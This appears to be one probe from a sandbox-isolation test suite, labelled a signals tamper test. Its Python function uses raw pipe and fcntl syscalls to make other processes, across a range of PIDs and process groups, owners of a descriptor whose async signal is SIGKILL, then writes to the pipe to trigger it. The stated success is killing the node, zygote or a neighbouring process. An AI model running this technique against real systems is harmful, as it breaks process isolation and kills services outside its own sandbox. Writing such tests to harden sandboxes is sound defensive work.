# family: signals
# kind: tamper
# machine: x86_64
# tries: fcntl: a descriptor of its own, and its channel, whose owner is every process and whose signal kills
# success looks like: the node, the zygote or the neighbour is ended
def job(plugin):
  @LIBC@
  pipe = (c.c_int * 2)()
  reached = [call(22, pipe)]
  for pid in range(1, max(os.getpid(), 500) + 60):
    if pid == os.getpid():
      continue
    for owner in (pid, -pid):
      for descriptor in (pipe[0], 4):
        reached.append(call(72, descriptor, 8, owner) + call(72, descriptor, 10, 9) + call(72, descriptor, 4, 0o20000))
      if pipe[1] > 4:
        os.write(pipe[1], b'x')
      plugin.cacheapi_load_json()
  call(72, 4, 4, 0)
  return [reached.count(0), len(reached)]
